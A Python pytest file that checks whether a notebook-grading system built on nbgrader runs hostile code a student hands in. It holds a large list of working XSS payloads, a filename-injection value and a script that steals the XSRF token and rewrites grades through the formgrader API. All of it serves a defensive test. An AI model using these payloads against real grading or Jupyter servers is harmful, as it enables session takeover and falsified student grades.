"""A hand-in that attacks who reads it: nothing of it runs in formgrader, on nbgrader's page, on ours, in the report.

Each attack calls `pwned("its name")`, which the test hears from any frame or window, or asks for an address with that
word in it.  The test also does what a careless teacher would: it clicks, submits, hovers, follows addresses.
"""

import base64
import copy
import json
from urllib.parse import quote

import nbformat
import pytest
from nbformat.v4 import new_markdown_cell, new_raw_cell

from authoring.release import quiet, released
from grading import demo, formgrader, grade
from grading.book.gradebook import Course
from grading.reports.class_report import write_report
from tests.browser.conftest import is_abroad
from tests.toy_lab import LAB, TOY

HONEST, ATTACKER = "anne", "mallory\"><img src=x onerror=pwned('folder name')>"
ELSEWHERE = "http://pwned.invalid"


def inside(name: str) -> str:
    """A page that attacks from within a frame."""
    return f"<script>(window.pwned || parent.pwned)('{name}')</script>"


SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg">{inside("attached svg")}</svg>'.encode()).decode()
PAGE = base64.b64encode(inside("data address").encode()).decode()
TAKEOVER = """<script>(async () => {
    pwned('takeover');
    const headers = {'X-XSRFToken': document.cookie.match(/_xsrf=([^;]*)/)[1], 'Content-Type': 'application/json'};
    const body = JSON.stringify({type: 'file', format: 'text', content: 'by a student'});
    await fetch('/api/contents/pwned.txt', {method: 'PUT', headers, body});
    const id = location.pathname.split('/')[3];
    for (const mark of await (await fetch('/formgrader/api/grades?submission_id=' + id)).json())
        await fetch('/formgrader/api/grade/' + mark.id,
            {method: 'PUT', headers, body: JSON.stringify({...mark, manual_score: 2, needs_manual_grade: false})});
})()</script>"""
# Written in Markdown.  {0} becomes the name of the attack.
TEXTS = {
    "script": TAKEOVER,
    "image": "<img src=x onerror=\"pwned('{0}')\">",
    "svg": "<svg onload=\"pwned('{0}')\"></svg>",
    "svg script": "<svg><script>pwned('{0}')</script></svg>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:pwned('{0}') /><text>x</text></a></svg>",
    "link": "<a href=\"javascript:pwned('{0}')\">x</a>",
    "Markdown link": "[x](javascript:pwned%28'{0}'%29) [y](java&#115;cript:pwned%28'{0}'%29)",
    "Markdown image": "![x](x\"onerror=pwned('{0}')// ) ![](/pwned-image)",
    "frame": f"<iframe src=\"data:text/html;base64,{PAGE}\"></iframe>",
    "frame of its own": "<iframe srcdoc=\"&lt;script&gt;parent.pwned('{0}')&lt;/script&gt;\"></iframe>",
    "frame with an address": "<iframe src=\"javascript:parent.pwned('{0}')\"></iframe>",
    "form": "<form action=\"javascript:pwned('{0}')\"><button>x</button></form>",
    "form that leaves": f"<form action={ELSEWHERE}/pwned method=post target=_blank><input type=submit></form>",
    "button": "<button onclick=\"pwned('{0}')\">x</button><input autofocus onfocus=\"pwned('{0}')\">",
    "object": f"<object data=\"data:text/html;base64,{PAGE}\"></object><embed src=\"data:text/html;base64,{PAGE}\">",
    "style": f"<style>@import url({ELSEWHERE}/pwned.css); body {{ background: url(/pwned.png) }}</style>",
    "style of a tag": f"<p style=\"background: url({ELSEWHERE}/pwned.png); width: expression(pwned('x'))\">x</p>",
    "animation": "<style>@keyframes k {}</style><b style='animation: k' onanimationstart=\"pwned('{0}')\">x</b>",
    "details": "<details open ontoggle=\"pwned('{0}')\"><summary>x</summary></details>",
    "hover": "<p onmouseover=\"pwned('{0}')\">x</p>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=pwned('{0}')&gt;\">",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=pwned('{0}')>\"></noscript>",
    "comment": "<!--> <img src=x onerror=\"pwned('{0}')\"> -->",
    "formula": "$</span><img src=x onerror=\"pwned('{0}')\">$ $$\\href{javascript:pwned('{0}')}{x}$$",
    "MathJax": "<script type=\"text/x-mathjax-config\">pwned('{0}')</script>",
    "tooltip": "<p data-toggle=tooltip data-html=true title=\"<img src=x onerror=pwned('{0}')>\">x</p>",
    "fence": "```html</code></pre><img src=x onerror=\"pwned('{0}')\">\nx\n```\n```mermaid\n</pre><img src=x "
    "onerror=pwned('{0}')>\n```",
    "base": f"<base href={ELSEWHERE}/pwned/>",
    "address": "[x](/formgrader/manage_students/%22%3Bpwned('{0}')%2F%2F)",
    "refresh": "<meta http-equiv=refresh content=\"0;url=/pwned\">",
}  # fmt: skip
# Shown by code: mime type, data, metadata.
IMAGE = "<img src=x onerror=\"pwned('{0}')\">"
SHOWN = {
    "html output": ("text/html", IMAGE + inside("{0}"), {}),
    "isolated output": ("text/html", inside("{0}"), {"isolated": True}),
    "javascript output": ("application/javascript", "pwned('{0}')", {}),
    "svg output": ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"pwned('{0}')\"/>", {}),
    "Markdown output": ("text/markdown", IMAGE + " <a href=\"javascript:pwned('{0}')\">x</a>", {}),
    "LaTeX output": ("text/latex", "$</div>" + IMAGE + "$", {}),
    "plain output": ("text/plain", "</pre>" + IMAGE, {}),
    "size of an image": ("image/png", "AAAA", {"width": "1 onload=pwned('{0}') onerror=pwned('{0}')"}),
    "image that is none": ("image/png", "\" onerror=\"pwned('{0}')", {}),
    "widget": ("application/vnd.jupyter.widget-view+json", {"model_id": "</script>" + inside("{0}")}, {}),
}  # fmt: skip
CODE = f"""\
from IPython.display import display
# </code></pre></textarea></script><img src=x onerror="pwned('code')">
for name, (kind, data, metadata) in {SHOWN!r}.items():
    data, metadata = (eval(repr(part).replace("{{0}}", name)) for part in (data, metadata))
    display({{kind: data}}, raw=True, metadata={{kind: metadata}})
print('</pre><img src=x onerror="pwned(1)">')
def double(x):
    return 2 * x
"""
FAILS = "def noisy():\n    raise ValueError('</pre><img src=x onerror=\"pwned(2)\"><script>pwned(3)</script>')"


def attack(root) -> None:
    """Hand in, grade; then put into what was executed what intake takes out (attachments, widgets)."""
    release = nbformat.reads(released(TOY).decode(), as_version=4)
    hostile = copy.deepcopy(release)
    texts = [text.replace("{0}", name) for name, text in TEXTS.items()]
    hostile.cells += [new_markdown_cell(text) for text in texts]
    hostile.cells += [new_raw_cell(inside("raw"), metadata={"raw_mimetype": "text/html"})]
    hostile.cells[-2].metadata.nbgrader = {"grade_id": "\"><img src=x onerror=pwned('grade_id')>", "solution": True}
    demo.hand_in(release, demo.Student(HONEST, {"ex3_words": "Parce que."}, {}), root, LAB)
    answers = {"ex1_double": CODE, "ex2_noisy": FAILS, "ex3_words": "\n\n".join([*texts, TAKEOVER])}
    demo.hand_in(hostile, demo.Student(ATTACKER, answers, {}), root, LAB)
    folder = root / "submitted" / ATTACKER / LAB
    (folder / "page.html").write_text(inside("page beside"))
    (folder / "nbgrader_config.py").write_text(f"open({str(root / 'by-a-link.txt')!r}, 'w')")
    marks = {mark.student: mark for mark in grade.grade(root, TOY, grade.Options(jobs=2))}
    assert marks[ATTACKER].state == marks[HONEST].state == "recorded", marks

    path = root / "autograded" / ATTACKER / LAB / f"{LAB}.ipynb"
    executed = nbformat.read(path, as_version=4)
    files = {"x.svg": {"image/svg+xml": SVG}, "x": {"text/html": f'">{inside("attachment")}'}}
    text = "![x](attachment:x.svg) ![x](attachment:x) [x](attachment:x.svg)"
    executed.cells.append(new_markdown_cell(text, attachments=files))
    state = {"state": {"</script>" + inside("widget"): {}}}
    executed.metadata.widgets = {"application/vnd.jupyter.widget-state+json": state}
    nbformat.write(executed, path)
    with quiet():
        Course(root, TOY).feedback(ATTACKER)
        write_report(root, TOY)


def marks(root) -> list:
    with Course(root, TOY).gradebook() as gradebook:
        submissions = gradebook.notebook_submissions(LAB, LAB)
        grades = [(one.student.id, grade) for one in submissions for grade in one.grades]
        return sorted((who, grade.name, grade.manual_score, grade.needs_manual_grade) for who, grade in grades)


@pytest.fixture
def careless(browser):
    """Opens a page and does what one should not; gives what came of it: `careless.ran` and `careless.asked`."""
    context = browser.new_context()
    ran, asked = [], []
    context.expose_binding("pwned", lambda source, name: ran.append(f"{name} ({source['page'].url[:60]}…)"))
    context.on("request", lambda request: asked.append(request.url) if told(request.url) else None)
    context.on("dialog", lambda dialog: dialog.accept())
    page = context.new_page()

    def visit(address: str, ready: str = "body") -> None:
        page.goto(address)
        page.wait_for_selector(ready, state="attached")
        page.evaluate(CLICK)
        page.wait_for_timeout(500)  # what an attack has started

    visit.ran, visit.asked, visit.page = ran, asked, page
    yield visit
    context.close()


def told(url: str) -> bool:
    return is_abroad(url) or url.split("?")[0].rsplit("/", 1)[-1].startswith("pwned")


# Everything in the hand-in is clicked, pointed at and sent; the links that leave openly are not followed.
CLICK = """() => {
    const parts = '.rendered_html *, .output *, .input_area *, main *, .jp-RenderedHTMLCommon *, .jp-OutputArea *';
    for (const part of document.querySelectorAll(parts)) {
        for (const kind of ['mouseover', 'mouseenter', 'focus']) part.dispatchEvent(new Event(kind, {bubbles: true}));
        const leaves = /^(https?|mailto|file|blob|\\.\\.):?/.test(part.getAttribute('href') ?? '');
        if (part.click && !leaves && !part.matches('input.score, .scoring-buttons *')) part.click();
        if (part.matches('form')) HTMLFormElement.prototype.submit.call(part);
    }
}"""


def test_nothing_that_a_student_wrote_runs(careless, jupyter, tmp_path):
    root = tmp_path / "class"
    attack(root)
    before, there = marks(root), set(root.rglob("*"))
    folder = root / "feedback" / ATTACKER / LAB
    for file in (folder / "notebook" / f"{LAB}.html", folder / f"{LAB}.html", root / "report" / f"{LAB}.html"):
        careless(file.as_uri())
    with jupyter(root, command=formgrader.command(root)) as server:
        careless.page.goto(server.url("api"))  # with the token: it lets the browser in

        def address(path: str) -> str:
            return server.url(path).split("?")[0]

        submissions = json.loads(server.ask(f"formgrader/api/submitted_notebooks/{LAB}/{LAB}"))
        (mine,) = (one["id"] for one in submissions if one["student"] == ATTACKER)
        shown = address(f"formgrader/submissions/{mine}/")
        careless(shown, "textarea.comment")
        assert careless.page.locator(".rendered_html").count() > len(TEXTS)
        assert "HTTP" not in careless.page.title() and "takeover" in careless.page.inner_text("body")  # read as text
        careless.page.wait_for_function("formgrader.loaded && formgrader.grades?.loaded")  # nbgrader's own did run
        careless(f"{shown}page.html")
        careless(address("formgrader/api/students"))
        careless(address("formgrader/manage_students"), "td")
        careless(address(f"formgrader/manage_submissions/{LAB}"), "td")
        careless(address(f"formgrader/gradebook/{LAB}/{LAB}"), ".name a")
        script = quote("\";pwned('address')//", safe="")
        for page in (f"manage_students/{script}", f"manage_students/{script}/{script}", f"gradebook/{script}/{script}"):
            careless(address(f"formgrader/{page}"))
        careless(f"{address('formgrader')}?path={quote(str(root / 'autograded' / ATTACKER / LAB))}")
        assert (careless.ran, careless.asked) == ([], [])
        # JupyterLab itself asks for the pictures of a notebook that is not trusted, but runs nothing of it.
        for folder in (f"autograded/{ATTACKER}/{LAB}", f"submitted/{ATTACKER}/{LAB}"):
            careless(address(f"lab/tree/{quote(folder)}/{LAB}.ipynb") + "?reset", ".jp-RenderedMarkdown")
    assert careless.ran == []
    assert marks(root) == before
    new = [path for path in root.rglob("*") if path not in there]
    assert [path for path in new if ".ipynb_checkpoints" not in path.parts] == []
